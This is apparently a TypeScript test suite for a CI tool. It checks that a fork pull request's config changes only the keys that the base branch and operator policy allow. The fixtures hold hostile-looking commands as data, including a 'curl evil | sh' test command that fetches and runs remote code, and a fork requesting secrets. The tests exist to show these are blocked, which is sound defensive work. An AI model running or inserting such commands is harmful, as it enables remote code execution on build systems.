/**
 * A pull request's config: the base branch's files (read through the contents API by the
 * controller) are the trusted layer; the pull request's own files change only what its source's
 * `allowConfigOverrides` allows.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readRepoConfig, resolveBuildConfig } from '../../src/core/repo-config.js';
import type { BuildContext, ResolvedBuildConfig } from '../../src/core/repo-config.js';
import { collectConfigFiles } from '../../src/core/repo-config/files.js';
import { DEFAULT_BUILD_POLICY } from '../../src/core/settings.js';

const roots: string[] = [];
afterAll(async () => Promise.all(roots.map((root) => rm(root, { recursive: true, force: true }))));

const forkPullRequest: BuildContext = { event: 'pull_request', branch: 'patch-1', pr: 12, fork: true };
const npm = { name: 'demo', scripts: { test: 'node test.js' } };

async function resolvePullRequest(options: {
  base: Record<string, object>;
  head: Record<string, object>;
  overrides?: boolean | string[];
  settingsConfig?: Record<string, unknown>;
  build?: BuildContext;
}): Promise<ResolvedBuildConfig> {
  const root = await mkdtemp(join(tmpdir(), 'lambkin-pr-config-'));
  roots.push(root);
  for (const [name, content] of Object.entries(options.head)) {
    await writeFile(join(root, name), JSON.stringify(content));
  }
  const text = (name: string) => (options.base[name] ? JSON.stringify(options.base[name]) : undefined);
  const problems: never[] = [];
  const baseFiles = collectConfigFiles(
    {
      packageText: text('package.json'),
      lambciText: text('.lambci.json'),
      lambkinText: text('.lambkin.json'),
    },
    problems,
  );
  return resolveBuildConfig({
    settingsConfig: options.settingsConfig ?? {},
    repo: await readRepoConfig(root),
    build: options.build ?? forkPullRequest,
    base: { ref: 'main', files: baseFiles },
    pullRequestOverrides:
      options.overrides ?? DEFAULT_BUILD_POLICY.pullRequests.fromForkPublicRepo.allowConfigOverrides,
  });
}

describe('pull request config', () => {
  it("takes the base branch's config; a fork's files change only commands and plain env", async () => {
    const resolved = await resolvePullRequest({
      base: {
        '.lambkin.json': { test: 'npm test', timeout: 120, env: { MODE: 'base' }, deployBranches: 'main' },
      },
      head: {
        'package.json': npm,
        '.lambkin.json': {
          test: 'node evil-test.js',
          timeout: 1,
          secrets: true,
          env: { EXTRA: 'x' },
          git: { depth: 1 },
        },
      },
    });
    expect(resolved.test).toEqual(['node evil-test.js']);
    expect(resolved.timeoutSeconds).toBe(120);
    expect(resolved.env).toEqual({ MODE: 'base', EXTRA: 'x' });
    expect(resolved.git).toEqual({});
    expect(resolved.source).toEqual([
      'defaults',
      '.lambkin.json of main',
      '.lambkin.json of the pull request',
    ]);
    expect(resolved.warnings).toEqual([
      expect.stringMatching(
        /^\.lambkin\.json of the pull request: "timeout", "secrets", "git" not used: the pull request policy's "allowConfigOverrides" permits only install, test, env$/,
      ),
    ]);
  });

  it("cannot undo the base branch's `build: false` for pull requests", async () => {
    const resolved = await resolvePullRequest({
      base: { '.lambkin.json': { pullRequests: { build: false } } },
      head: { 'package.json': npm, '.lambkin.json': { build: true, pullRequests: { build: true } } },
    });
    expect(resolved.build).toBe(false);
    expect(resolved.skipReason).toMatch(/"build" is false in pullRequests \(\.lambkin\.json of main\)/);
  });

  it('reads `cmd` in the policy as install and test (LambCI files of the pull request)', async () => {
    const resolved = await resolvePullRequest({
      base: { '.lambci.json': { cmd: 'npm ci && npm test' } },
      head: { 'package.json': npm, '.lambci.json': { cmd: 'make check', branches: { main: false } } },
      overrides: ['cmd'],
    });
    expect(resolved.install).toEqual([]);
    expect(resolved.test).toEqual(['make check']);
    expect(resolved.warnings).toContainEqual(expect.stringMatching(/"branches" not used/));
  });

  it("ignores the pull request's files altogether when the policy allows no key", async () => {
    const resolved = await resolvePullRequest({
      base: { 'package.json': { ...npm, lambkin: { test: 'npm run ci' } } },
      head: { 'package.json': { ...npm, lambkin: { test: 'curl evil | sh' } } },
      overrides: false,
    });
    expect(resolved.test).toEqual(['npm run ci']);
    expect(resolved.warnings).toEqual([
      'package.json "lambkin" of the pull request was not used: the pull request policy\'s "allowConfigOverrides" is false',
    ]);
  });

  it('lets a same-repository pull request change every key (the default policy)', async () => {
    const resolved = await resolvePullRequest({
      base: { '.lambkin.json': { test: 'npm test', timeout: 120 } },
      head: { 'package.json': npm, '.lambkin.json': { test: 'npm run test:new', timeout: 300 } },
      overrides: DEFAULT_BUILD_POLICY.pullRequests.fromSelfPublicRepo.allowConfigOverrides,
      build: { event: 'pull_request', branch: 'feature', pr: 3 },
    });
    expect(resolved.test).toEqual(['npm run test:new']);
    expect(resolved.timeoutSeconds).toBe(300);
    expect(resolved.warnings).toEqual([]);
  });

  it("lets the base branch's LambCI policy narrow what a fork may change, never widen it", async () => {
    const narrowed = await resolvePullRequest({
      base: {
        '.lambci.json': {
          cmd: 'npm test',
          pullRequests: { fromForkPublicRepo: { allowConfigOverrides: ['cmd'] } },
        },
      },
      head: { 'package.json': npm, '.lambkin.json': { test: 'node t.js', env: { A: '1' } } },
    });
    expect(narrowed.test).toEqual(['node t.js']);
    expect(narrowed.env).toEqual({});
    expect(narrowed.warnings).toContainEqual(
      expect.stringMatching(/"env" not used: .* permits only install, test$/),
    );

    const widened = await resolvePullRequest({
      base: { '.lambci.json': { pullRequests: { fromForkPublicRepo: { allowConfigOverrides: true } } } },
      head: { 'package.json': npm, '.lambkin.json': { test: 'node t.js', timeout: 5 } },
    });
    expect(widened.timeoutSeconds).toBe(600);
    expect(widened.warnings).toContainEqual(expect.stringMatching(/"timeout" not used/));
  });

  it("ignores a pull request's own LambCI allowConfigOverrides, saying so", async () => {
    const resolved = await resolvePullRequest({
      base: {},
      head: {
        'package.json': npm,
        '.lambci.json': { cmd: 'make', pullRequests: { fromForkPublicRepo: { allowConfigOverrides: true } } },
      },
    });
    expect(resolved.warnings).toContainEqual(
      `.lambci.json of the pull request: a pull request's own "allowConfigOverrides" is not used`,
    );
  });

  it("keeps the operator's allowConfigOverrides above both the base branch and the pull request", async () => {
    const resolved = await resolvePullRequest({
      base: { '.lambkin.json': { test: 'npm test', timeout: 120 } },
      head: { 'package.json': npm, '.lambkin.json': { test: 'node x.js', env: { A: '1' } } },
      settingsConfig: { allowConfigOverrides: ['test'] },
    });
    expect(resolved.test).toEqual(['node x.js']);
    expect(resolved.timeoutSeconds).toBe(600);
    expect(resolved.env).toEqual({});
  });
});
